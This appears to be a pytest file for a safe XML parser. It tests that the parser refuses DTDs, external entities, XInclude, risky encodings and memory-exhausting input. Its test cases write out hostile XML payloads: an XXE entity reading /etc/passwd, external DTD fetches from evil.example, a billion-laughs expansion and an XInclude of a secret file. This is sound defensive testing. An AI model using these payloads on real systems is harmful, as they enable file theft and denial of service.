"""XML that could reach out, expand or exhaust the memory never becomes a tree."""

import time
from pathlib import Path

import pytest

from congvan.opc import BrokenXml, UnsafeXml, parse_xml, well_formed

BILLION = "<!DOCTYPE l [<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {chr(98 + n)} '{('&' + chr(97 + n) + ';') * 10}'>" for n in range(9)
)


@pytest.mark.parametrize(
    "text",
    [
        '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>',
        '<?xml version="1.0"?>\n<!-- x --><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>',
        '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]><a/>',
        BILLION + "]><l>&j;</l>",
        "<!DOCTYPE a><a/>",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-8-sig"])
def test_a_document_type_is_refused_in_every_encoding(text: str, encoding: str) -> None:
    data = text.encode(encoding)
    with pytest.raises(UnsafeXml, match="DTD"):
        parse_xml(data)
    assert "DTD" in str(well_formed(data))


@pytest.mark.parametrize("encoding", ["utf-7", "cp037", "utf-32", "latin-1"])
def test_an_encoding_in_which_a_document_type_could_hide_is_refused(encoding: str) -> None:
    text = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'
    with pytest.raises((BrokenXml, UnsafeXml)):
        parse_xml(text.encode(encoding))
    assert well_formed(text.encode(encoding))


def test_another_encoding_is_refused_by_name() -> None:
    with pytest.raises(UnsafeXml, match="«windows-1258»"):
        parse_xml(b'<?xml version="1.0" encoding="windows-1258"?><a/>')


def test_an_inclusion_is_refused(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("canary", encoding="utf-8")
    xml = f'<a xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="{secret.as_uri()}" parse="text"/></a>'
    with pytest.raises(UnsafeXml, match="XInclude"):
        parse_xml(xml.encode())


def test_text_that_only_speaks_of_such_things_is_let_pass() -> None:
    assert parse_xml(b"<a>&lt;!DOCTYPE http://www.w3.org/2001/XInclude</a>").text
    assert well_formed(b"<a>&lt;!DOCTYPE</a>") is None


@pytest.mark.parametrize(
    "data", [b"", b"<a>", b"<a></b>", b"<a/><b/>", b"text", b"<a>&x;</a>", b"<a>\x01</a>", b"<a \xff/>"]
)
def test_broken_xml_is_told_without_a_parser_s_words(data: bytes) -> None:
    with pytest.raises(BrokenXml, match="not well-formed"):
        parse_xml(data)
    assert "not well-formed" in str(well_formed(data))


def test_the_place_of_the_break_is_told() -> None:
    assert "line 2" in str(well_formed(b"<a>\n<b></a>"))


@pytest.mark.parametrize("text", ["<a>Kính gửi</a>", '<?xml version="1.0" encoding="UTF-16"?><a>Kính gửi</a>'])
def test_good_xml_becomes_a_tree(text: str) -> None:
    data = text.encode("utf-16" if "UTF-16" in text else "utf-8")
    assert parse_xml(data).text == "Kính gửi"
    assert well_formed(data) is None


EXHAUSTING = {
    "deep": b"<a>" * 100_000,
    "many": b"<a>" + b"<b/>" * 3_000_000 + b"</a>",
    "attributes": b"<a " + b" ".join(b'b%d="="' % number for number in range(1_200_000)) + b"/>",
}


@pytest.mark.parametrize("data", EXHAUSTING.values(), ids=EXHAUSTING)
def test_xml_made_to_exhaust_the_memory_is_refused_fast(data: bytes) -> None:
    begun = time.perf_counter()
    with pytest.raises((BrokenXml, UnsafeXml)):
        parse_xml(data)
    assert time.perf_counter() - begun < 5
